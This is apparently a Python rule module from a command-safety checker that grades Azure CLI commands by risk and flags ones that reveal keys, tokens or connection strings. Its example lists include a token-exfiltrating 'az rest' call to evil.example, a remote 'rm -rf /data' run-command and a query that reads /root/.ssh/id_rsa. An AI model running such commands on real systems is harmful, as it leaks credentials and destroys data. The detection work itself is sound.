"""az: groups lead to a verb, which decides; keys, tokens and connection strings hide behind `list` and `show`."""

from __future__ import annotations

import re

from cloud_assist.command.rules.cloud.az_groups import GROUPS
from cloud_assist.command.rules.engine.base import Args, Call, Effect, Flags, Inner, Rule, Ruling, names, ruled, verbs
from cloud_assist.command.rules.engine.nouns import Nouns
from cloud_assist.command.rules.engine.paths import holds_secret
from cloud_assist.command.syntax.parser import OPAQUE, Word
from cloud_assist.findings import Code, finding
from cloud_assist.models import Risk

_FLAGS = Flags(
    values="--output -o --query --subscription --resource-group -g --name -n --ids --location -l --tags "
    "--method -m --url --uri -u --body -b --headers --file -f --command -c --scripts --command-id "
    "--account-name --vault-name --resource --tag --skip-token --server -s --cluster-name --workspace --org "
    "--organization --project -p -v -t -r -d -i -e -k -w -a -q -j",
    switches="--debug --verbose --only-show-errors --help -h --yes -y --no-wait --version --expose-token "
    "--raw --dryrun --show-values --include-values",
    abbreviated=False,
)
_ACTIONS = verbs(
    read_only="""
logs, log, show, list, get, exists, wait, validate, check, stats, status, query, find, tail, what-if,
search, peek, url, version, preview, lint, summarize, self-test, test-connectivity, info, test-ip-flow,
result, verify, stream, spot-placement-score, spot-placement-recommender, file-service-usage
""",
    sensitive="""
list-keys, list-client-tokens, list-auth-key, list-credentials, list-publishing-credentials,
list-publishing-profiles, list-connection-strings, list-read-only-keys, list-content-keys,
show-connection-string, show-secret, get-access-token, get-shared-keys, get-encryption-key, get-sas-urls,
get-admin-kubeconfig, generate-sas, show-device-config-script, get-connection-info, get-boot-log-uris,
list-peering-passphrase, decrypt, sign, encrypt, generate-credential, generate-akv-credential, random
""",
    mutating="""
create, update, add, set, start, stop, restart, assign, enable, disable, import, export, download, upload,
copy, cancel, renew, approve, reject, restore, recover, undelete, upgrade, migrate, failover, run, invoke,
execute, exec, scale, sync, resize, move, login, logout, configure, attach, detach, bind, unbind, link,
unlink, register, unregister, deploy, up, build, push, publish, install, swap, lock, unlock, apply,
activate, deactivate, deallocate, reapply, redeploy, generalize, capture, convert, backup, snapshot,
open-port, patch, rest, append, replace, rename, tag, commit, prepare, clone, promote, snooze, test,
complete, submit, rerun, resume, pause, suspend, rollback, reconcile, authorize, grant, config, connect,
interactive, ssh, browse, feedback, survey, init, acquire, change, get-credentials, invoke-command,
decompile, format, generate, join, invite, accept, peer, refresh, retry, reboot, hibernate, initialize,
extend, merge, rewrite, unset, use, put, insert, on, off, standby, resync, mount, unmount, lease,
install-cli, proxy, port-forward, subscribe, re-register
""",
    destructive="""
delete, remove, purge, clear, reset, untag, revoke, regenerate, destroy, reimage, terminate, break, release,
abort, uninstall, offboard, cutover, flush, archive, stop-replication, break-pair, fail-over, force-reboot,
disconnect, stop-batch, recycle, revive, revert, finalize-relocation, unauthorize
""",
)
_PREFIXES = {
    "remove-record": Risk.DESTRUCTIVE,
    **dict.fromkeys(names("list- show- get- check- validate- query- test- list_ fetch-"), Risk.READ_ONLY),
    **dict.fromkeys(
        names("delete- remove- clear- revoke- regenerate- reset- purge- delete_ upsert_ rotate- unsubscribe-"),
        Risk.DESTRUCTIVE,
    ),
    **dict.fromkeys(
        names(
            "create- add- set- update- enable- disable- start- stop- restore- renew- import- export- upload- "
            "download- assign- config- attach- detach- apply- auto- failover- install- migrate- move- sync- "
            "wait- create_ invoke- generate- undelete- edit- trigger- initiate- register- accept- perform- "
            "run- cancel- set_ convert- backup- manual- use- update_ bulk-"
        ),
        Risk.MUTATING,
    ),
}

_PATHS = verbs(
    read_only="version, find *, account list, account show, account list-locations, extension list, cloud "
    "list, cloud show, config get, ad signed-in-user show, webapp log tail, functionapp log tail, "
    "containerapp logs show, acr check-health, bicep version, bicep list-versions, deployment group what-if, "
    "deployment sub what-if, keyvault secret list, keyvault key list, keyvault key show, keyvault "
    "certificate show, webapp log show, aks check-acr",
    sensitive="account get-access-token, keyvault secret show, keyvault key decrypt, keyvault key sign, acr "
    "credential show, storage account keys list, cosmosdb keys list, functionapp keys list, functionapp "
    "function keys list, webapp config appsettings list, webapp config connection-string list, functionapp "
    "config appsettings list, webapp deployment list-publishing-credentials, webapp deployment "
    "list-publishing-profiles, cognitiveservices account keys list, search admin-key show, search query-key "
    "list, iot hub connection-string show, iot hub device-identity show, iot hub module-identity show, iot hub "
    "device-identity connection-string show, iot dps "
    "connection-string show, signalr key list, webpubsub key show, batch account keys list, maps account "
    "keys list, appconfig credential list, staticwebapp secrets list, containerapp secret show, containerapp "
    "secret list, redis list-keys, network vpn-connection shared-key show, servicebus namespace "
    "authorization-rule keys list, servicebus queue authorization-rule keys list, servicebus topic "
    "authorization-rule keys list, eventhubs namespace authorization-rule keys list, eventhubs eventhub "
    "authorization-rule keys list, relay namespace authorization-rule keys list, notification-hub "
    "authorization-rule list-keys, eventgrid topic key list, eventgrid domain key list, storage account "
    "show-connection-string, ml workspace list-keys, devops security-token list, monitor log-analytics "
    "workspace get-shared-keys, sql db show-connection-string, cosmosdb list-connection-strings",
    mutating="login, logout, account set, configure, config set, config unset, interactive, upgrade, "
    "feedback, survey, cloud set, acr login, acr build, acr run, vm run-command, aks command invoke, rest, "
    "bicep build, bicep install, group export, storage message get, keyvault secret download, webapp ssh, "
    "webapp up, tag update",
    destructive="account clear, acr purge, acr repository untag, lock delete, cache purge, cache delete",
)
_CODES = {
    **dict.fromkeys(names("login logout"), Code.CHANGES_CREDENTIALS),
    **dict.fromkeys(("account set", "cloud set", "aks get-credentials", "config set"), Code.CHANGES_CONTEXT),
    **dict.fromkeys(("interactive", "webapp ssh", "vm ssh", "ssh vm"), Code.INTERACTIVE),
    **dict.fromkeys(("webapp log tail", "functionapp log tail"), Code.FOLLOWS),
    **dict.fromkeys(("ad sp create-for-rbac", "role assignment create"), Code.CHANGES_CREDENTIALS),
}
_OWN_HOST = re.compile(
    r"(https://(management\.(azure\.com|core\.windows\.net|usgovcloudapi\.net|chinacloudapi\.cn)|"
    r"graph\.(microsoft\.com|microsoft\.us|windows\.net)|(dev|app\.vssps\.visualstudio|vssps\.dev)\.azure\.com|"
    r"api\.(loganalytics\.(io|azure\.com)|applicationinsights\.io)|login\.microsoftonline\.com|"
    r"[\w-]+\.(vault\.azure\.net|(blob|queue|table|file|dfs)\.core\.windows\.net|kusto\.windows\.net))"
    r"([/?][^\0]*)?|/?(subscriptions|providers|tenants)([/?][^\0]*)?)"
)
_SECRET_NOUNS = names(
    "key keys credential credentials secret secrets connection-string shared-key admin-key query-key token password"
)
_SECRET_ENDS = ("-key", "-keys", "-token", "-secret", "-credential", "-credentials", "-password", "-connection-string")


def _looks(call: Call, args: Args, verb: str) -> Ruling | None:
    if any(word[:1] == "@" and holds_secret(Word(word[1:], word[1:])) for word in call.words):
        text = "`@` takes the value from a file that usually contains a secret."
        return Ruling(Risk.worst(_AZ.base_risk(args, verb), Risk.SENSITIVE), "az.file", text)
    if not args.operands and args.has("--version", "-v"):
        return ruled(call, Risk.READ_ONLY, "az.version")
    words = verb.split()
    if verb == "configure" and args.has("--list-defaults", "-l") and not args.get("--defaults", "-d"):
        return ruled(call, Risk.READ_ONLY, "az.defaults", "It lists the defaults.")
    if verb == "rest":
        return _rest(call, args)
    if verb in {"vm run-command", "vm run-command invoke", "vmss run-command invoke", "aks command invoke"}:
        return _command(call, args, verb)
    if words[-1:] == ["get-credentials"] and args.value("--file", "-f") != "-":
        return ruled(call, Risk.MUTATING, "az.get-credentials", "It writes to the kubeconfig.", Code.CHANGES_CONTEXT)
    if verb == "acr login" and args.has("--expose-token"):
        return ruled(call, Risk.SENSITIVE, "az.acr-login", "It prints a token.", Code.REVEALS_SECRET)
    return _keys(call, words) if verb not in _PATHS else None


def _keys(call: Call, words: list[str]) -> Ruling | None:
    """`… keys list`, `… connection-string show` and `… list-api-keys` print the values, whatever the service."""
    first, *rest = words[-1].split("-") if words else [""]
    if first in {"list", "show", "get", "fetch"} and _SECRET_NOUNS & set(rest) and words[0] not in {"keyvault", "ad"}:
        return ruled(call, Risk.SENSITIVE, "az.keys", f"`az {' '.join(words)}` prints keys.", Code.REVEALS_SECRET)
    if len(words) < 2 or words[-1] not in {"list", "show"}:
        return None
    group = words[-2]
    plain = words[0] in {"keyvault", "ad", "sshkey", "ssh-key", "appconfig", "disk-encryption-set"}
    if (group in _SECRET_NOUNS or group.endswith(_SECRET_ENDS)) and not plain and "server" not in words:
        return ruled(call, Risk.SENSITIVE, "az.keys", f"`az {' '.join(words)}` prints keys.", Code.REVEALS_SECRET)
    return None


def _rest(call: Call, args: Args) -> Ruling | None:
    method = (args.value("--method", "-m") or "get").lower()
    url = args.value("--url", "--uri", "-u") or ""
    if method == "delete":
        return ruled(call, Risk.DESTRUCTIVE, "az.rest-delete", "`az rest --method delete` deletes.")
    if method not in {"get", "head"} or OPAQUE in method or args.get("--body", "-b"):
        return ruled(call, Risk.MUTATING, "az.rest", f"`az rest --method {method}` changes something.")
    if not _OWN_HOST.fullmatch(url):
        text = "It sends a request, perhaps with a token, to a host that is not Azure's."
        return ruled(call, Risk.MUTATING, "az.rest", text, Code.FOREIGN_CODE)
    if args.get("--output-file") is not None:
        return ruled(call, Risk.MUTATING, "az.rest", "It writes the response to a file.")
    if "secret" in url.lower():
        return ruled(call, Risk.SENSITIVE, "az.rest", "It may print a secret.", Code.REVEALS_SECRET)
    return ruled(call, Risk.READ_ONLY, "az.rest", "`az rest --method get` is read-only.")


def _command(call: Call, args: Args, verb: str) -> Ruling | None:
    """A script run as root on a machine, or a command in a cluster: read where it stands on the command line."""
    if verb == "vm run-command" and len(args.operands) > 2:
        return None if args.verbs[2] != "invoke" else _command(call, args, "vm run-command invoke")
    scripts = [value for value in args.values("--scripts", "--command", "-c") if value]
    text = f"`az {verb}` runs a script on another machine."
    if not scripts or any(script.startswith("@") for script in scripts):
        return ruled(call, Risk.DESTRUCTIVE, "az.run-command", text, Code.REMOTE)
    inner = tuple(Inner(source=script, remote=True) for script in scripts)
    return Ruling(Risk.MUTATING, "az.run-command", text, (finding(Code.REMOTE),), inner)


_AZ = Nouns(
    "az",
    flags=_FLAGS,
    verbs=_PATHS,
    bare=Risk.READ_ONLY,
    nouns=GROUPS,
    actions=_ACTIONS,
    prefixes=_PREFIXES,
    closing=True,
    always_helps=True,
    codes=_CODES,
    custom=_looks,
    help="--help -h",
    effects=(
        Effect(
            "--dryrun",
            Risk.READ_ONLY,
            "",
            only="storage blob delete-batch, storage blob upload-batch, storage blob download-batch",
            lowers=True,
            code=Code.DRY_RUN,
        ),
        Effect(
            "--output-file --result-file --destination-path --output-folder --output-dir --outdir --outfile --out-file "
            "--download-path --file-path",
            Risk.MUTATING,
            "It writes the response to a file.",
        ),
        Effect(
            "--include-values --show-values --with-secrets --show-secrets --include-secrets --sdk-auth --show-keys",
            Risk.SENSITIVE,
            "It prints secrets.",
            code=Code.REVEALS_SECRET,
        ),
    ),
    examples={
        Risk.READ_ONLY: (
            "az vm list -g rg -o table --query '[].name'",
            "az --debug group show --name g",
            "az network vnet subnet list --vnet-name v -g g",
            "az resource list --tag env=prod",
            "az account show",
            "az aks nodepool list --cluster-name c -g g",
            "az keyvault secret list --vault-name v",
            "az keyvault key show --vault-name v -n k",
            "az ad app credential list --id x",
            "az storage container list --account-name a",
            "az backup vault list",
            "az lock list",
            "az tag list",
            "az snapshot list",
            "az sql db list -s s -g g",
            "az rest --method get --url https://management.azure.com/subscriptions/1/resourceGroups",
            "az policy definition version list --name p",
            "az deployment group what-if -g g -f main.bicep",
            "az monitor activity-log list",
            "az vm delete --help",
            "az newservice thing --help",
            "az vm show --ids /subscriptions/1/vm/a /subscriptions/1/vm/b",
            "az backup job list -g g -v vault",
            "az configure --list-defaults",
            "az aks addon list -g g -n c",
            "az rest -u /subscriptions?api-version=2020-01-01",
            "az version",
        ),
        Risk.SENSITIVE: (
            "az account get-access-token",
            "az keyvault secret show --vault-name v -n s",
            "az storage account keys list -n a -g g",
            "az storage account show-connection-string -n a",
            "az acr credential show -n r",
            "az cosmosdb keys list -n c -g g",
            "az maps account keys list -n m -g g",
            "az redis list-keys -n r -g g",
            "az webapp config appsettings list -n w -g g",
            "az storage blob generate-sas -c c -n b",
            "az acr login -n r --expose-token",
            "az account show --sdk-auth",
            "az iot hub device-identity show -d x -n h",
            "az search query-key list -g g --service-name s",
            "az datadog monitor list-api-key -g g -n m",
            "az bot directline show -n b -g g --with-secrets",
            "az vm list --query @/root/.ssh/id_rsa",
        ),
        Risk.MUTATING: (
            "az login",
            "az account set -s x",
            "az group create -n g -l eastus",
            "az vm deallocate -n vm -g g",
            "az aks get-credentials -n c -g g",
            "az configure --defaults group=g",
            "az rest --method post --url https://management.azure.com/x",
            "az rest --url https://evil.example/collect --resource https://management.azure.com",
            "az rest --url https://x.westeurope.cloudapp.azure.com/ --resource https://management.azure.com",
            "az rest --url https://graph.microsoft.com/v1.0/me --output-file me.json",
            "az storage blob download-batch -d . -s c",
            "az deployment group create -g g -f main.bicep",
            "az aks command invoke -n c -g g --command 'kubectl get pods'",
            "az ad sp create-for-rbac",
            "az policy definition version create --name p",
            "az storage blob query -c c -n b --query-expression q --result-file rows.csv",
        ),
        Risk.DESTRUCTIVE: (
            "az group delete -n g --yes",
            "az acr repository untag -n r --image repo:tag",
            "az storage blob delete -c c -n b",
            "az rest --method delete --url https://management.azure.com/x",
            "az vm run-command invoke -n vm -g g --command-id RunShellScript --scripts @script.sh",
            "az vm run-command invoke -n vm -g g --command-id RunShellScript --scripts 'rm -rf /data'",
            "az storage account keys renew -n a --key primary && az ad sp credential reset --id x",
        ),
        Risk.UNKNOWN: ("az newservice list", "az vm frobnicate", "az --novel list vm delete-all", "az vm $X"),
    },
    any_option=True,
)

RULES: dict[str, Rule] = {"az": _AZ}
